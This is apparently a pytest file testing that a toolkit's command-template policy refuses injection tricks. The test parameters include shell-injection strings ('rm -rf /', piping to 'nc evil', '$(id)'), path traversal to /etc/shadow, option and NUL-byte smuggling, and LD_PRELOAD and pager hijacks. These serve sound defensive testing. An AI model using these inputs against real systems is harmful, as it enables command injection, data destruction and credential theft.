"""Attacks on command templates: one test per trick a technician might try.

A command runs only if its argv matches a template of the granted scope word
for word, each placeholder value matching its regular expression in full. No
shell ever sees the words, so metacharacters are just characters; the tests
check they are refused anyway, as the placeholder patterns do not allow them.
"""

from __future__ import annotations

import pytest

from tests.unit.policy.support import make_policy
from toolkit.errors import ExitCode, PolicyRefused
from toolkit.policy import Policy, match_command, run_environment


@pytest.fixture
def policy() -> Policy:
    return make_policy(
        commands={
            "diagnostics": [
                ["uptime"],
                ["df", "-h"],
                ["systemctl", "status", "{unit}"],
                ["journalctl", "-u", "{unit}", "-n", "{lines}"],
            ],
            "fixes": [["systemctl", "restart", "{unit}"]],
        },
    )


def refused(argv: list[str], policy: Policy, scope: str = "diagnostics") -> str:
    with pytest.raises(PolicyRefused) as caught:
        match_command(argv, policy, scope)
    assert caught.value.exit_code == ExitCode.REFUSED
    assert caught.value.message.startswith("refused: ")
    return caught.value.message


@pytest.mark.parametrize(
    "unit",
    [
        "nginx; rm -rf /",
        "nginx && id",
        "nginx | nc evil 1",
        "$(id)",
        "`id`",
        "nginx > /etc/passwd",
        "nginx\nid",
        "nginx ",
        "*",
        "ngin?",
        "~root",
        "../../etc/shadow",
    ],
)
def test_shell_metacharacters_in_placeholder(policy: Policy, unit: str) -> None:
    assert "{unit} must match" in refused(["systemctl", "status", unit], policy)


def test_trailing_newline_slips_past_dollar_anchor(policy: Policy) -> None:
    # re.match("^x$", "x\n") succeeds; fullmatch must be used
    assert "{unit} must match" in refused(["systemctl", "status", "nginx\n"], policy)


@pytest.mark.parametrize("unit", ["-Hroot@evil.example", "--host=evil", "-M", "--", "-"])
def test_option_injection_through_placeholder(policy: Policy, unit: str) -> None:
    # the unit pattern allows '-', but no value may start with it
    assert "may not start with '-'" in refused(["systemctl", "status", unit], policy)


def test_extra_argument_appended(policy: Policy) -> None:
    refused(["df", "-h", "/etc/shadow"], policy)
    refused(["systemctl", "status", "nginx", "--output=json"], policy)


def test_argument_left_out(policy: Policy) -> None:
    refused(["systemctl", "status"], policy)
    refused(["df"], policy)


def test_whole_command_as_one_shell_string(policy: Policy) -> None:
    refused(["df -h"], policy)
    refused(["sh", "-c", "df -h"], policy)


def test_program_replaced_by_a_path(policy: Policy) -> None:
    refused(["/tmp/evil/uptime"], policy)
    refused(["./uptime"], policy)
    refused(["/usr/bin/uptime"], policy)  # literal means literal


def test_lookalike_and_case_variants(policy: Policy) -> None:
    refused(["UPTIME"], policy)
    refused(["\uff55ptime"], policy)  # fullwidth u
    refused(["uptime\u200b"], policy)  # zero-width space


def test_option_swapped_for_another(policy: Policy) -> None:
    refused(["df", "-H"], policy)
    refused(["journalctl", "-u", "nginx", "-f", "10"], policy)


def test_nul_byte_in_argument(policy: Policy) -> None:
    assert "NUL" in refused(["systemctl", "status", "nginx\0--host=evil"], policy)
    assert "NUL" in refused(["uptime\0"], policy)


def test_non_utf8_argument(policy: Policy) -> None:
    assert "UTF-8" in refused(["systemctl", "status", "nginx\udcff"], policy)


def test_overlong_argument(policy: Policy) -> None:
    assert "longer than" in refused(["systemctl", "status", "a" * 100_000], policy)


def test_numeric_placeholder_with_more_than_digits(policy: Policy) -> None:
    for lines in ["10 ", "1e9", "0x10", "\u0661\u0660"]:  # the last: Arabic-Indic digits
        assert "{lines} must match" in refused(["journalctl", "-u", "nginx", "-n", lines], policy)


def test_template_of_another_scope(policy: Policy) -> None:
    refused(["systemctl", "restart", "nginx"], policy, "diagnostics")
    assert match_command(["systemctl", "restart", "nginx"], policy, "fixes")


def test_scope_without_templates(policy: Policy) -> None:
    assert "no commands in the 'shell' scope" in refused(["bash"], policy, "shell")


def test_empty_argv(policy: Policy) -> None:
    assert "empty" in refused([], policy)


def test_argv_as_a_string_is_not_a_list(policy: Policy) -> None:
    with pytest.raises(PolicyRefused, match="list of strings"):
        match_command("uptime", policy, "diagnostics")  # a str is a Sequence[str]
    with pytest.raises(PolicyRefused, match="list of strings"):
        match_command(["systemctl", "status", 1], policy, "diagnostics")  # type: ignore[list-item]


def test_placeholder_value_spelled_like_a_placeholder(policy: Policy) -> None:
    # a value "{unit}" is just text; it does not match the unit pattern
    assert "{unit} must match" in refused(["systemctl", "status", "{unit}"], policy)


def test_environment_is_not_inherited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LD_PRELOAD", "/tmp/evil.so")
    monkeypatch.setenv("PATH", "/tmp/evil:/usr/bin")
    monkeypatch.setenv("SYSTEMD_PAGER", "sh -c id")
    assert run_environment() == {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LANG": "C.UTF-8"}


def test_environment_cannot_be_changed_for_the_next_command() -> None:
    env = run_environment()
    env["LD_PRELOAD"] = "/tmp/evil.so"
    assert "LD_PRELOAD" not in run_environment()


def test_placeholder_as_program_is_refused_at_load() -> None:
    from toolkit.errors import UsageError

    with pytest.raises(UsageError, match="program must be a literal"):
        make_policy(commands={"diagnostics": [["{prog}", "-h"]]}, placeholders={"prog": ".*"})
